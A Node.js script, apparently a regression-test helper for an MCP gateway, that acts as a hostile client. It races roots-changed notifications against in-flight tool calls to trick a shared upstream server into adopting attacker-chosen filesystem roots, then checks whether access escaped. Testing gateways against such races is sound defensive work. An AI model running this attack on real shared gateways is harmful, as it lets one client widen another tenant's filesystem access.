// #11 item 1: a real client (the official TypeScript SDK 1.x) that tries to re-point a shared
// upstream's roots. It declares the roots capability, answers roots/list with <root uri>, and,
// round after round, tells the gateway its roots changed while calls of its own are in flight
// (the moment the old gateway relayed the upstream's roots/list to whichever client had a call
// in flight). It stops when <tool> (list_allowed_directories) shows <marker>, or after <rounds>.
// Usage: node sdk1-roots-attacker.mjs <url> <tool> <root uri> <marker> <rounds>
// Prints {rootsAsked, escaped, rounds, allowed}.
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { ListRootsRequestSchema } from "@modelcontextprotocol/sdk/types.js";

const [url, tool, rootUri, marker, rounds] = process.argv.slice(2);
const client = new Client(
  { name: "portcullis-it-roots-attacker", version: "1.0.0" },
  { capabilities: { roots: { listChanged: true } } },
);
let rootsAsked = 0;
client.setRequestHandler(ListRootsRequestSchema, async () => {
  rootsAsked++;
  return { roots: [{ uri: rootUri, name: "attacker" }] };
});
const transport = new StreamableHTTPClientTransport(new URL(url));
await client.connect(transport);

const text = (r) => (r.content ?? []).map((c) => c.text ?? "").join("\n");
let escaped = false;
let allowed = "";
let round = 0;
for (; round < Number(rounds) && !escaped; round++) {
  const calls = [];
  for (let i = 0; i < 4; i++) {
    calls.push(client.callTool({ name: tool, arguments: {} }));
  }
  await client.sendRootsListChanged();
  const results = await Promise.all(calls);
  allowed = text(await client.callTool({ name: tool, arguments: {} }));
  escaped = results.some((r) => text(r).includes(marker)) || allowed.includes(marker);
}
await transport.terminateSession();
await client.close();
console.log(JSON.stringify({ rootsAsked, escaped, rounds: round, allowed }));
